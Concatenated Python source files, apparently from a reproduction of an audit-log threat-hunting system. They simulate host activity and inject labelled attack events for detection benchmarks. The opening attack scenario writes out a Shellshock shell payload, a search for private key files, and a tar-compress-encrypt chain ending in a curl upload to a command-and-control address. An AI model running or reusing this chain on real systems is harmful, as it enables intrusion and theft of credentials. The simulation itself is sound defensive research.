    def generate(self, builder: ScenarioBuilder) -> None:
        apache = builder.spawn_process("/usr/sbin/apache2", cmdline="apache2 -k start", owner="www-data")
        shell = builder.spawn_process(
            "/bin/bash", cmdline="() { :; }; /bin/bash -i", owner="www-data"
        )
        find = builder.spawn_process("/usr/bin/find", cmdline="find / -name '*.key'", owner="www-data")
        tar = builder.spawn_process("/bin/tar", cmdline="tar -cf /tmp/upload.tar ...", owner="www-data")
        bzip2 = builder.spawn_process("/bin/bzip2", cmdline="bzip2 /tmp/upload.tar", owner="www-data")
        gpg = builder.spawn_process("/usr/bin/gpg", cmdline="gpg -c /tmp/upload.tar.bz2", owner="www-data")
        curl = builder.spawn_process("/usr/bin/curl", cmdline=f"curl -T /tmp/upload {self.C2_IP}", owner="www-data")

        attacker_conn = builder.connection(dstip="198.18.0.66", dstport=80)
        c2_conn = builder.connection(dstip=self.C2_IP, dstport=443)
        passwd = builder.file("/etc/passwd")
        upload_tar = builder.file("/tmp/upload.tar")
        upload_bz2 = builder.file("/tmp/upload.tar.bz2")
        upload = builder.file("/tmp/upload")

        # Penetration.
        self._mark(builder.emit(apache, Operation.ACCEPT, attacker_conn, malicious=True), "/usr/sbin/apache2", "198.18.0.66")
        self._mark(builder.fork(apache, shell, malicious=True), "/usr/sbin/apache2", "/bin/bash")
        # File system scanning.
        self._mark(builder.fork(shell, find, malicious=True), "/bin/bash", "/usr/bin/find")
        for index in range(self.scanned_files):
            sensitive = builder.file(f"/home/alice/secrets/key-{index}.pem")
            self._mark(
                builder.read(find, sensitive, amount=512, malicious=True),
                "/usr/bin/find",
                f"/home/alice/secrets/key-{index}.pem",
            )
        # Scrape + compress + encrypt + exfiltrate (the Figure 2 chain).
        self._mark(builder.fork(shell, tar, malicious=True), "/bin/bash", "/bin/tar")
        self._mark(builder.read(tar, passwd, amount=4096, malicious=True), "/bin/tar", "/etc/passwd")
        for index in range(self.scanned_files):
            sensitive = builder.file(f"/home/alice/secrets/key-{index}.pem")
            self._mark(
                builder.read(tar, sensitive, amount=512, malicious=True),
                "/bin/tar",
                f"/home/alice/secrets/key-{index}.pem",
            )
        self._mark(builder.write(tar, upload_tar, amount=1 << 16, malicious=True), "/bin/tar", "/tmp/upload.tar")
        self._mark(builder.fork(shell, bzip2, malicious=True), "/bin/bash", "/bin/bzip2")
        self._mark(builder.read(bzip2, upload_tar, amount=1 << 16, malicious=True), "/bin/bzip2", "/tmp/upload.tar")
        self._mark(builder.write(bzip2, upload_bz2, amount=1 << 14, malicious=True), "/bin/bzip2", "/tmp/upload.tar.bz2")
        self._mark(builder.fork(shell, gpg, malicious=True), "/bin/bash", "/usr/bin/gpg")
        self._mark(builder.read(gpg, upload_bz2, amount=1 << 14, malicious=True), "/usr/bin/gpg", "/tmp/upload.tar.bz2")
        self._mark(builder.write(gpg, upload, amount=1 << 14, malicious=True), "/usr/bin/gpg", "/tmp/upload")
        self._mark(builder.fork(shell, curl, malicious=True), "/bin/bash", "/usr/bin/curl")
        self._mark(builder.read(curl, upload, amount=1 << 14, malicious=True), "/usr/bin/curl", "/tmp/upload")
        self._mark(builder.connect(curl, c2_conn, malicious=True), "/usr/bin/curl", self.C2_IP)
        self._mark(builder.send(curl, c2_conn, amount=1 << 14, malicious=True), "/usr/bin/curl", self.C2_IP)


#: All attack scenarios keyed by name, used by the CLI and benchmark harness.
ATTACK_SCENARIOS: dict[str, type[AttackScenario]] = {
    Figure2DataLeakageChain.name: Figure2DataLeakageChain,
    PasswordCrackingAttack.name: PasswordCrackingAttack,
    DataLeakageAttack.name: DataLeakageAttack,
}
