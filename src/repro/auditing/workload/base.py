"""Shared machinery for workload generators.

Workload generators simulate the system activity of a monitored host.  They
all build on :class:`ScenarioBuilder`, which owns the entity/event factories
and a monotonically advancing virtual clock so that every generator produces a
deterministic, time-ordered stream of events for a given seed.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.auditing.entities import (
    EntityFactory,
    FileEntity,
    NetworkEntity,
    ProcessEntity,
)
from repro.auditing.events import EventFactory, Operation, SystemEvent
from repro.auditing.trace import AuditTrace

#: Nanoseconds per second, used throughout the simulator clock arithmetic.
NS_PER_SECOND = 1_000_000_000

#: Nanoseconds per millisecond.
NS_PER_MS = 1_000_000


@dataclass
class VirtualClock:
    """A virtual nanosecond clock that only moves forward."""

    now_ns: int = 0

    def advance(self, delta_ns: int) -> int:
        """Advance the clock by ``delta_ns`` (must be non-negative)."""
        if delta_ns < 0:
            raise ValueError("clock cannot move backwards")
        self.now_ns += delta_ns
        return self.now_ns

    def advance_ms(self, delta_ms: float) -> int:
        """Advance the clock by a (possibly fractional) millisecond count."""
        return self.advance(int(delta_ms * NS_PER_MS))


@dataclass
class ScenarioBuilder:
    """Builds audit traces event by event with shared factories and a clock.

    A single builder is shared by the benign workload and the attack scenarios
    running on the same simulated host so that entity ids and event ids never
    collide and the timeline interleaves naturally.
    """

    host: str = "victim-host"
    seed: int = 7
    clock: VirtualClock = field(default_factory=VirtualClock)

    def __post_init__(self) -> None:
        self.entities = EntityFactory(host=self.host)
        self.events = EventFactory(host=self.host)
        self.random = random.Random(self.seed)
        self._trace = AuditTrace(host=self.host)
        self._next_pid = 1000

    # -- entity helpers ----------------------------------------------------

    def spawn_process(
        self, exename: str, cmdline: str = "", owner: str = "root"
    ) -> ProcessEntity:
        """Create a process entity with a fresh simulated pid."""
        self._next_pid += 1
        return self.entities.process(
            exename=exename, pid=self._next_pid, cmdline=cmdline or exename, owner=owner
        )

    def file(self, path: str) -> FileEntity:
        """The (deduplicated) file entity for ``path``."""
        return self.entities.file(path)

    def connection(
        self, dstip: str, dstport: int, srcip: str = "10.0.0.5", protocol: str = "tcp"
    ) -> NetworkEntity:
        """A network connection entity toward ``dstip:dstport``."""
        srcport = self.random.randint(32768, 60999)
        return self.entities.network(
            srcip=srcip, srcport=srcport, dstip=dstip, dstport=dstport, protocol=protocol
        )

    # -- event helpers -----------------------------------------------------

    def emit(
        self,
        subject: ProcessEntity,
        operation: Operation,
        obj: FileEntity | ProcessEntity | NetworkEntity,
        duration_ms: float = 1.0,
        amount: int = 0,
        malicious: bool = False,
        gap_ms: float | None = None,
    ) -> SystemEvent:
        """Emit one event at the current virtual time and advance the clock.

        Args:
            subject: The acting process.
            operation: Operation performed on ``obj``.
            obj: Object entity.
            duration_ms: How long the operation takes.
            amount: Bytes transferred.
            malicious: Whether the event belongs to an injected attack.
            gap_ms: Idle time before the event starts; a small random jitter is
                used when not given, keeping traces deterministic per seed.
        """
        if gap_ms is None:
            gap_ms = self.random.uniform(0.1, 5.0)
        start = self.clock.advance_ms(gap_ms)
        end = start + int(duration_ms * NS_PER_MS)
        self.clock.now_ns = end
        event = self.events.create(
            subject=subject,
            operation=operation,
            obj=obj,
            start_time=start,
            end_time=end,
            amount=amount,
        )
        self._trace.add_events([event], malicious=malicious)
        return event

    def read(self, subject, obj, **kwargs) -> SystemEvent:
        """Shorthand for a ``read`` event."""
        return self.emit(subject, Operation.READ, obj, **kwargs)

    def write(self, subject, obj, **kwargs) -> SystemEvent:
        """Shorthand for a ``write`` event."""
        return self.emit(subject, Operation.WRITE, obj, **kwargs)

    def execute(self, subject, obj, **kwargs) -> SystemEvent:
        """Shorthand for an ``execute`` event (process executes a file)."""
        return self.emit(subject, Operation.EXECUTE, obj, **kwargs)

    def fork(self, subject, child, **kwargs) -> SystemEvent:
        """Shorthand for a ``fork`` event (process forks a child process)."""
        return self.emit(subject, Operation.FORK, child, **kwargs)

    def connect(self, subject, conn, **kwargs) -> SystemEvent:
        """Shorthand for a ``connect`` event toward a network connection."""
        return self.emit(subject, Operation.CONNECT, conn, **kwargs)

    def send(self, subject, conn, **kwargs) -> SystemEvent:
        """Shorthand for a ``send`` event over a network connection."""
        return self.emit(subject, Operation.SEND, conn, **kwargs)

    def recv(self, subject, conn, **kwargs) -> SystemEvent:
        """Shorthand for a ``recv`` event over a network connection."""
        return self.emit(subject, Operation.RECV, conn, **kwargs)

    # -- trace -------------------------------------------------------------

    def build(self) -> AuditTrace:
        """Finish the scenario: register entities and return the trace."""
        self._trace.add_entities(self.entities.all_entities())
        return self._trace


class WorkloadGenerator:
    """Base class for workload generators.

    Subclasses implement :meth:`generate` and append their activity onto a
    shared :class:`ScenarioBuilder`.
    """

    name = "workload"

    def generate(self, builder: ScenarioBuilder) -> None:
        """Append this workload's events onto ``builder``."""
        raise NotImplementedError
