"""Host simulator: interleaves benign workloads with injected attacks.

The :class:`HostSimulator` reproduces the paper's demo deployment: "the server
continues to resume its routine tasks ... where benign system activities and
malicious system activities co-exist".  It drives a shared
:class:`~repro.auditing.workload.base.ScenarioBuilder` so benign and malicious
events share one timeline, one entity id space and one event id space, exactly
like a real audit log.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.auditing.trace import AuditTrace
from repro.auditing.workload.attacks import AttackGroundTruth, AttackScenario
from repro.auditing.workload.base import ScenarioBuilder, WorkloadGenerator
from repro.auditing.workload.benign import (
    DEFAULT_BENIGN_WORKLOADS,
    AuthenticationWorkload,
    BackupWorkload,
    DeveloperShellWorkload,
    LogRotationWorkload,
    SoftwareUpdateWorkload,
    WebServerWorkload,
)


@dataclass
class SimulationResult:
    """Everything produced by one host simulation run."""

    trace: AuditTrace
    ground_truths: list[AttackGroundTruth] = field(default_factory=list)

    def ground_truth(self, attack_name: str) -> AttackGroundTruth:
        """Look up the ground truth for one injected attack by name."""
        for truth in self.ground_truths:
            if truth.name == attack_name:
                return truth
        raise KeyError(f"no attack named {attack_name!r} was injected")


class HostSimulator:
    """Simulates one monitored host running benign workloads plus attacks.

    Args:
        host: Simulated hostname.
        seed: Random seed controlling jitter, client IPs and file choices; the
            same seed always produces an identical trace.
        benign_scale: Multiplier applied to every benign workload's size, used
            by benchmarks to sweep total event count.
    """

    def __init__(self, host: str = "victim-host", seed: int = 7, benign_scale: float = 1.0) -> None:
        self._host = host
        self._seed = seed
        self._benign_scale = benign_scale
        self._benign: list[WorkloadGenerator] = []
        self._attacks: list[AttackScenario] = []

    # -- configuration -----------------------------------------------------

    def add_benign(self, workload: WorkloadGenerator) -> "HostSimulator":
        """Add one benign workload generator."""
        self._benign.append(workload)
        return self

    def add_default_benign(self) -> "HostSimulator":
        """Add the default benign mix, scaled by ``benign_scale``."""
        scale = self._benign_scale
        self._benign.extend(
            [
                WebServerWorkload(requests=max(1, int(100 * scale))),
                LogRotationWorkload(rotations=max(1, int(5 * scale))),
                SoftwareUpdateWorkload(packages=max(1, int(6 * scale))),
                DeveloperShellWorkload(iterations=max(1, int(20 * scale))),
                BackupWorkload(files_per_run=max(1, int(10 * scale)), runs=max(1, int(2 * scale))),
                AuthenticationWorkload(logins=max(1, int(15 * scale))),
            ]
        )
        return self

    def add_attack(self, attack: AttackScenario) -> "HostSimulator":
        """Inject one attack scenario."""
        self._attacks.append(attack)
        return self

    # -- execution ---------------------------------------------------------

    def run(self) -> SimulationResult:
        """Run the simulation and return the trace plus attack ground truth.

        Benign workloads and attacks are interleaved: each generator is split
        around the attack injection points so malicious events are buried in
        the middle of the benign timeline rather than appended at the end.
        """
        builder = ScenarioBuilder(host=self._host, seed=self._seed)

        # Interleave: first half of the benign generators, then the attacks,
        # then the second half — a close approximation of the paper's demo
        # where attacks happen while routine tasks keep running.
        benign = list(self._benign)
        midpoint = max(1, len(benign) // 2) if benign else 0
        for workload in benign[:midpoint]:
            workload.generate(builder)
        for attack in self._attacks:
            attack.generate(builder)
        for workload in benign[midpoint:]:
            workload.generate(builder)

        trace = builder.build()
        return SimulationResult(
            trace=trace,
            ground_truths=[attack.ground_truth for attack in self._attacks],
        )


def simulate_demo_host(
    seed: int = 7, benign_scale: float = 1.0, attacks: list[AttackScenario] | None = None
) -> SimulationResult:
    """Build the paper's demo deployment in one call.

    When ``attacks`` is ``None`` both demo attacks (password cracking and data
    leakage after Shellshock penetration) are injected.
    """
    from repro.auditing.workload.attacks import DataLeakageAttack, PasswordCrackingAttack

    simulator = HostSimulator(seed=seed, benign_scale=benign_scale).add_default_benign()
    for attack in attacks if attacks is not None else [PasswordCrackingAttack(), DataLeakageAttack()]:
        simulator.add_attack(attack)
    return simulator.run()


__all__ = [
    "HostSimulator",
    "SimulationResult",
    "simulate_demo_host",
    "DEFAULT_BENIGN_WORKLOADS",
]
