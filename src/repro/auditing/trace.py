"""In-memory representation of a collected audit trace.

An :class:`AuditTrace` bundles the system entities and system events collected
from one (simulated) host over one monitoring window, together with optional
ground-truth labels used by the benchmark harness to score hunting precision
and recall against injected attacks.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Iterator

from repro.auditing.entities import EntityType, SystemEntity
from repro.auditing.events import EventType, SystemEvent


@dataclass
class AuditTrace:
    """A collected audit trace: entities, events and ground-truth labels.

    Attributes:
        host: Hostname the trace was collected from.
        entities: Every distinct system entity observed.
        events: Every audited system event, in collection order.
        malicious_event_ids: Ids of events injected by attack scenarios; used
            only for evaluation, never by the hunting pipeline itself.
    """

    host: str = "localhost"
    entities: list[SystemEntity] = field(default_factory=list)
    events: list[SystemEvent] = field(default_factory=list)
    malicious_event_ids: set[int] = field(default_factory=set)

    def __post_init__(self) -> None:
        self._entities_by_id = {entity.entity_id: entity for entity in self.entities}

    # -- accessors ---------------------------------------------------------

    def entity(self, entity_id: int) -> SystemEntity:
        """Look up an entity by id.

        Raises:
            KeyError: if the id is unknown in this trace.
        """
        return self._entities_by_id[entity_id]

    def entities_of_type(self, entity_type: EntityType) -> list[SystemEntity]:
        """All entities of the given type, ordered by id."""
        return [e for e in self.entities if e.entity_type is entity_type]

    def events_of_type(self, event_type: EventType) -> list[SystemEvent]:
        """All events of the given category, in collection order."""
        return [e for e in self.events if e.event_type is event_type]

    def malicious_events(self) -> list[SystemEvent]:
        """Events labelled malicious by the injected attack scenario."""
        return [e for e in self.events if e.event_id in self.malicious_event_ids]

    def benign_events(self) -> list[SystemEvent]:
        """Events not labelled malicious."""
        return [e for e in self.events if e.event_id not in self.malicious_event_ids]

    def time_span(self) -> tuple[int, int]:
        """The (min start, max end) timestamps across all events.

        Returns ``(0, 0)`` for an empty trace.
        """
        if not self.events:
            return (0, 0)
        return (
            min(event.start_time for event in self.events),
            max(event.end_time for event in self.events),
        )

    # -- mutation ----------------------------------------------------------

    def add_entities(self, entities: Iterable[SystemEntity]) -> None:
        """Register entities, ignoring ids already present."""
        for entity in entities:
            if entity.entity_id not in self._entities_by_id:
                self._entities_by_id[entity.entity_id] = entity
                self.entities.append(entity)

    def add_events(
        self, events: Iterable[SystemEvent], malicious: bool = False
    ) -> None:
        """Append events to the trace, optionally labelling them malicious."""
        for event in events:
            self.events.append(event)
            if malicious:
                self.malicious_event_ids.add(event.event_id)

    def merge(self, other: "AuditTrace") -> "AuditTrace":
        """Return a new trace containing the union of both traces.

        Entity and event ids must not collide; the workload generators share a
        single factory pair per host which guarantees this.
        """
        merged = AuditTrace(host=self.host)
        merged.add_entities(self.entities)
        merged.add_entities(other.entities)
        merged.add_events(self.events)
        merged.add_events(other.events)
        merged.malicious_event_ids = set(self.malicious_event_ids) | set(
            other.malicious_event_ids
        )
        return merged

    def sorted_by_time(self) -> "AuditTrace":
        """Return a copy of the trace with events sorted by start time."""
        copy = AuditTrace(
            host=self.host,
            entities=list(self.entities),
            events=sorted(self.events, key=lambda e: (e.start_time, e.event_id)),
            malicious_event_ids=set(self.malicious_event_ids),
        )
        return copy

    def __iter__(self) -> Iterator[SystemEvent]:
        return iter(self.events)

    def __len__(self) -> int:
        return len(self.events)

    def summary(self) -> dict[str, int]:
        """Cheap summary statistics used by the CLI and examples."""
        return {
            "entities": len(self.entities),
            "files": len(self.entities_of_type(EntityType.FILE)),
            "processes": len(self.entities_of_type(EntityType.PROCESS)),
            "connections": len(self.entities_of_type(EntityType.NETWORK)),
            "events": len(self.events),
            "file_events": len(self.events_of_type(EventType.FILE)),
            "process_events": len(self.events_of_type(EventType.PROCESS)),
            "network_events": len(self.events_of_type(EventType.NETWORK)),
            "malicious_events": len(self.malicious_event_ids),
        }
