"""System entity model for audit logging data.

Following the convention established by prior audit-log query systems (AIQL,
SAQL) and adopted by ThreatRaptor, system entities are **files**, **processes**
and **network connections**.  Every entity carries a stable integer id that is
unique within a host trace, a type tag, and a set of descriptive attributes
used by TBQL attribute filters:

* files expose ``name`` (absolute path);
* processes expose ``exename`` (executable path), ``pid`` and the ``cmdline``;
* network connections expose ``srcip``/``srcport``/``dstip``/``dstport`` and
  the transport ``protocol``.

Entities are plain frozen dataclasses so they hash, compare and serialise
cheaply; the storage layer converts them into rows / nodes.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Any, Mapping


class EntityType(enum.Enum):
    """The three system entity types captured by the auditing component."""

    FILE = "file"
    PROCESS = "process"
    NETWORK = "network"

    @classmethod
    def from_string(cls, value: str) -> "EntityType":
        """Parse an entity type from its lowercase textual name.

        Accepts the TBQL keywords (``file``, ``proc``, ``ip``) as well as the
        canonical names used in storage.
        """
        normalized = value.strip().lower()
        aliases = {
            "file": cls.FILE,
            "proc": cls.PROCESS,
            "process": cls.PROCESS,
            "ip": cls.NETWORK,
            "network": cls.NETWORK,
            "conn": cls.NETWORK,
            "connection": cls.NETWORK,
        }
        try:
            return aliases[normalized]
        except KeyError:
            raise ValueError(f"unknown entity type: {value!r}") from None


#: The attribute used when a TBQL entity filter omits the attribute name.
DEFAULT_ATTRIBUTE: dict[EntityType, str] = {
    EntityType.FILE: "name",
    EntityType.PROCESS: "exename",
    EntityType.NETWORK: "dstip",
}

#: Every attribute exposed per entity type, in storage column order.
ENTITY_ATTRIBUTES: dict[EntityType, tuple[str, ...]] = {
    EntityType.FILE: ("name",),
    EntityType.PROCESS: ("exename", "pid", "cmdline", "owner"),
    EntityType.NETWORK: ("srcip", "srcport", "dstip", "dstport", "protocol"),
}


@dataclass(frozen=True, slots=True)
class SystemEntity:
    """Base class for system entities.

    Attributes:
        entity_id: Trace-unique integer identifier assigned by the collector.
        host: Hostname of the monitored machine the entity was observed on.
    """

    entity_id: int
    host: str = "localhost"

    @property
    def entity_type(self) -> EntityType:
        raise NotImplementedError

    def attributes(self) -> dict[str, Any]:
        """Return the entity's descriptive attributes as a plain dict."""
        raise NotImplementedError

    def attribute(self, name: str) -> Any:
        """Look up one attribute by name.

        Raises:
            KeyError: if the attribute does not exist for this entity type.
        """
        return self.attributes()[name]

    def default_attribute_value(self) -> Any:
        """Value of the type's default attribute (used by TBQL shorthand)."""
        return self.attribute(DEFAULT_ATTRIBUTE[self.entity_type])

    def to_row(self) -> dict[str, Any]:
        """Serialise the entity into a storage row."""
        row: dict[str, Any] = {
            "id": self.entity_id,
            "type": self.entity_type.value,
            "host": self.host,
        }
        row.update(self.attributes())
        return row


@dataclass(frozen=True, slots=True)
class FileEntity(SystemEntity):
    """A file system object identified by its absolute path."""

    name: str = ""

    @property
    def entity_type(self) -> EntityType:
        return EntityType.FILE

    def attributes(self) -> dict[str, Any]:
        return {"name": self.name}


@dataclass(frozen=True, slots=True)
class ProcessEntity(SystemEntity):
    """A running process originating from a software application."""

    exename: str = ""
    pid: int = 0
    cmdline: str = ""
    owner: str = "root"

    @property
    def entity_type(self) -> EntityType:
        return EntityType.PROCESS

    def attributes(self) -> dict[str, Any]:
        return {
            "exename": self.exename,
            "pid": self.pid,
            "cmdline": self.cmdline,
            "owner": self.owner,
        }


@dataclass(frozen=True, slots=True)
class NetworkEntity(SystemEntity):
    """A network connection described by its 5-tuple (minus state)."""

    srcip: str = ""
    srcport: int = 0
    dstip: str = ""
    dstport: int = 0
    protocol: str = "tcp"

    @property
    def entity_type(self) -> EntityType:
        return EntityType.NETWORK

    def attributes(self) -> dict[str, Any]:
        return {
            "srcip": self.srcip,
            "srcport": self.srcport,
            "dstip": self.dstip,
            "dstport": self.dstport,
            "protocol": self.protocol,
        }


def entity_from_row(row: Mapping[str, Any]) -> SystemEntity:
    """Reconstruct a :class:`SystemEntity` from a storage row.

    The row must contain at least ``id`` and ``type``; missing attributes fall
    back to the dataclass defaults so partially projected rows still work.
    """
    entity_type = EntityType(row["type"])
    entity_id = int(row["id"])
    host = row.get("host", "localhost")
    if entity_type is EntityType.FILE:
        return FileEntity(entity_id=entity_id, host=host, name=row.get("name", ""))
    if entity_type is EntityType.PROCESS:
        return ProcessEntity(
            entity_id=entity_id,
            host=host,
            exename=row.get("exename", ""),
            pid=int(row.get("pid", 0) or 0),
            cmdline=row.get("cmdline", ""),
            owner=row.get("owner", "root"),
        )
    return NetworkEntity(
        entity_id=entity_id,
        host=host,
        srcip=row.get("srcip", ""),
        srcport=int(row.get("srcport", 0) or 0),
        dstip=row.get("dstip", ""),
        dstport=int(row.get("dstport", 0) or 0),
        protocol=row.get("protocol", "tcp"),
    )


@dataclass
class EntityFactory:
    """Allocates trace-unique entity ids and de-duplicates identical entities.

    The collector observes the same file path or the same process many times;
    the factory guarantees a single :class:`SystemEntity` (and id) per distinct
    key so events can reference entities consistently.
    """

    host: str = "localhost"
    _next_id: int = 1
    _files: dict[str, FileEntity] = field(default_factory=dict)
    _processes: dict[tuple[str, int], ProcessEntity] = field(default_factory=dict)
    _networks: dict[tuple[str, int, str, int, str], NetworkEntity] = field(
        default_factory=dict
    )

    def _allocate_id(self) -> int:
        allocated = self._next_id
        self._next_id += 1
        return allocated

    def file(self, name: str) -> FileEntity:
        """Return the unique file entity for ``name``, creating it if needed."""
        existing = self._files.get(name)
        if existing is not None:
            return existing
        created = FileEntity(entity_id=self._allocate_id(), host=self.host, name=name)
        self._files[name] = created
        return created

    def process(
        self, exename: str, pid: int, cmdline: str = "", owner: str = "root"
    ) -> ProcessEntity:
        """Return the unique process entity for ``(exename, pid)``."""
        key = (exename, pid)
        existing = self._processes.get(key)
        if existing is not None:
            return existing
        created = ProcessEntity(
            entity_id=self._allocate_id(),
            host=self.host,
            exename=exename,
            pid=pid,
            cmdline=cmdline or exename,
            owner=owner,
        )
        self._processes[key] = created
        return created

    def network(
        self,
        srcip: str,
        srcport: int,
        dstip: str,
        dstport: int,
        protocol: str = "tcp",
    ) -> NetworkEntity:
        """Return the unique network entity for the connection 5-tuple."""
        key = (srcip, srcport, dstip, dstport, protocol)
        existing = self._networks.get(key)
        if existing is not None:
            return existing
        created = NetworkEntity(
            entity_id=self._allocate_id(),
            host=self.host,
            srcip=srcip,
            srcport=srcport,
            dstip=dstip,
            dstport=dstport,
            protocol=protocol,
        )
        self._networks[key] = created
        return created

    def all_entities(self) -> list[SystemEntity]:
        """Every distinct entity allocated so far, ordered by id."""
        entities: list[SystemEntity] = [
            *self._files.values(),
            *self._processes.values(),
            *self._networks.values(),
        ]
        entities.sort(key=lambda entity: entity.entity_id)
        return entities

    def __len__(self) -> int:
        return len(self._files) + len(self._processes) + len(self._networks)
