"""System event model for audit logging data.

A system event is an interaction between two system entities represented as
⟨subject, operation, object⟩.  Subjects are processes; objects can be files,
processes, or network connections.  Events are categorised into three types
according to the object entity type: **file events**, **process events** and
**network events**.

Representative event attributes follow the paper: subject/object entity ids,
operation, and start/end timestamps.  The reproduction additionally records
the byte count of data transferred (``amount``) because the Causality
Preserved Reduction technique aggregates it when merging events.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, replace
from typing import Any, Mapping

from repro.auditing.entities import EntityType, SystemEntity


class Operation(enum.Enum):
    """Operations observed between system entities.

    The set mirrors the system-call categories Sysdig reports, grouped into the
    operations TBQL exposes.  File operations target file objects, process
    operations target process objects, and network operations target network
    connection objects.
    """

    # File operations.
    READ = "read"
    WRITE = "write"
    EXECUTE = "execute"
    CREATE = "create"
    DELETE = "delete"
    RENAME = "rename"
    CHMOD = "chmod"
    # Process operations.
    FORK = "fork"
    EXEC = "exec"
    KILL = "kill"
    # Network operations.
    CONNECT = "connect"
    ACCEPT = "accept"
    SEND = "send"
    RECV = "recv"

    @classmethod
    def from_string(cls, value: str) -> "Operation":
        """Parse an operation name, accepting common syscall aliases."""
        normalized = value.strip().lower()
        aliases = {
            "readv": cls.READ,
            "pread": cls.READ,
            "writev": cls.WRITE,
            "pwrite": cls.WRITE,
            "execve": cls.EXEC,
            "clone": cls.FORK,
            "vfork": cls.FORK,
            "unlink": cls.DELETE,
            "unlinkat": cls.DELETE,
            "open": cls.READ,
            "openat": cls.READ,
            "sendto": cls.SEND,
            "sendmsg": cls.SEND,
            "recvfrom": cls.RECV,
            "recvmsg": cls.RECV,
        }
        if normalized in aliases:
            return aliases[normalized]
        try:
            return cls(normalized)
        except ValueError:
            raise ValueError(f"unknown operation: {value!r}") from None


class EventType(enum.Enum):
    """Event category determined by the object entity type."""

    FILE = "file"
    PROCESS = "process"
    NETWORK = "network"


#: Operations valid for each event type (used by TBQL semantic checking).
OPERATIONS_BY_EVENT_TYPE: dict[EventType, frozenset[Operation]] = {
    EventType.FILE: frozenset(
        {
            Operation.READ,
            Operation.WRITE,
            Operation.EXECUTE,
            Operation.CREATE,
            Operation.DELETE,
            Operation.RENAME,
            Operation.CHMOD,
        }
    ),
    EventType.PROCESS: frozenset({Operation.FORK, Operation.EXEC, Operation.KILL}),
    EventType.NETWORK: frozenset(
        {Operation.CONNECT, Operation.ACCEPT, Operation.SEND, Operation.RECV}
    ),
}


def event_type_for_object(object_type: EntityType) -> EventType:
    """Map an object entity type to the event category it produces."""
    return EventType(object_type.value)


@dataclass(frozen=True, slots=True)
class SystemEvent:
    """One audited interaction ⟨subject, operation, object⟩.

    Attributes:
        event_id: Trace-unique integer identifier.
        subject_id: Entity id of the subject (always a process).
        object_id: Entity id of the object (file, process or network).
        operation: The operation performed.
        object_type: Entity type of the object, determining the event type.
        start_time: Start timestamp in nanoseconds since the trace epoch.
        end_time: End timestamp in nanoseconds since the trace epoch.
        amount: Bytes transferred (reads/writes/sends/recvs), 0 otherwise.
        host: Hostname of the monitored machine.
    """

    event_id: int
    subject_id: int
    object_id: int
    operation: Operation
    object_type: EntityType
    start_time: int
    end_time: int
    amount: int = 0
    host: str = "localhost"

    def __post_init__(self) -> None:
        if self.end_time < self.start_time:
            raise ValueError(
                f"event {self.event_id}: end_time {self.end_time} precedes "
                f"start_time {self.start_time}"
            )

    @property
    def event_type(self) -> EventType:
        """Event category (file/process/network) from the object type."""
        return event_type_for_object(self.object_type)

    def occurs_before(self, other: "SystemEvent") -> bool:
        """True when this event finishes before ``other`` starts."""
        return self.end_time <= other.start_time

    def to_row(self) -> dict[str, Any]:
        """Serialise the event into a storage row."""
        return {
            "id": self.event_id,
            "srcid": self.subject_id,
            "dstid": self.object_id,
            "optype": self.operation.value,
            "eventtype": self.event_type.value,
            "starttime": self.start_time,
            "endtime": self.end_time,
            "amount": self.amount,
            "host": self.host,
        }

    def merged_with(self, other: "SystemEvent") -> "SystemEvent":
        """Return a new event covering both time windows with summed amounts.

        Used by Causality Preserved Reduction when merging excessive events
        between the same ⟨subject, object, operation⟩ triple.
        """
        if (self.subject_id, self.object_id, self.operation) != (
            other.subject_id,
            other.object_id,
            other.operation,
        ):
            raise ValueError("can only merge events over the same edge")
        return replace(
            self,
            start_time=min(self.start_time, other.start_time),
            end_time=max(self.end_time, other.end_time),
            amount=self.amount + other.amount,
        )


def event_from_row(row: Mapping[str, Any]) -> SystemEvent:
    """Reconstruct a :class:`SystemEvent` from a storage row."""
    return SystemEvent(
        event_id=int(row["id"]),
        subject_id=int(row["srcid"]),
        object_id=int(row["dstid"]),
        operation=Operation(row["optype"]),
        object_type=EntityType(row.get("objecttype", row.get("eventtype", "file"))),
        start_time=int(row["starttime"]),
        end_time=int(row["endtime"]),
        amount=int(row.get("amount", 0) or 0),
        host=row.get("host", "localhost"),
    )


@dataclass
class EventFactory:
    """Allocates trace-unique event ids and validates subject/object typing."""

    host: str = "localhost"
    _next_id: int = 1

    def create(
        self,
        subject: SystemEntity,
        operation: Operation,
        obj: SystemEntity,
        start_time: int,
        end_time: int | None = None,
        amount: int = 0,
    ) -> SystemEvent:
        """Create a new event between ``subject`` and ``obj``.

        Raises:
            ValueError: if the subject is not a process or the operation is not
                valid for the object's entity type.
        """
        if subject.entity_type is not EntityType.PROCESS:
            raise ValueError(
                f"event subject must be a process, got {subject.entity_type.value}"
            )
        event_type = event_type_for_object(obj.entity_type)
        if operation not in OPERATIONS_BY_EVENT_TYPE[event_type]:
            raise ValueError(
                f"operation {operation.value!r} is not valid for "
                f"{event_type.value} events"
            )
        event = SystemEvent(
            event_id=self._next_id,
            subject_id=subject.entity_id,
            object_id=obj.entity_id,
            operation=operation,
            object_type=obj.entity_type,
            start_time=start_time,
            end_time=end_time if end_time is not None else start_time,
            amount=amount,
            host=self.host,
        )
        self._next_id += 1
        return event
