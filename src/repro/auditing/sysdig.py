"""Sysdig-style audit log text format: emission and parsing.

ThreatRaptor collects audit logs from a host with Sysdig.  This reproduction
replaces the live kernel capture with a deterministic simulator, but keeps a
textual log format so the parsing stage of the system is exercised the same
way it would be against real Sysdig output.

Each record is one line of tab-separated ``key=value`` fields:

``evt.num=<id>\tevt.time=<ns>\tevt.endtime=<ns>\tevt.type=<op>\t``
``proc.name=<exe>\tproc.pid=<pid>\tproc.cmdline=<cmd>\tuser.name=<owner>\t``
followed by object fields that depend on the event category:

* file events:    ``fd.name=<path>``
* process events: ``child.name=<exe>\tchild.pid=<pid>\tchild.cmdline=<cmd>``
* network events: ``fd.sip=<ip>\tfd.sport=<p>\tfd.cip=<ip>\tfd.cport=<p>\tfd.l4proto=<proto>``

plus ``evt.buflen=<bytes>`` and ``host=<hostname>``.
"""

from __future__ import annotations

from typing import Iterable, Iterator, TextIO

from repro.auditing.entities import (
    EntityType,
    NetworkEntity,
    ProcessEntity,
    SystemEntity,
)
from repro.auditing.events import SystemEvent
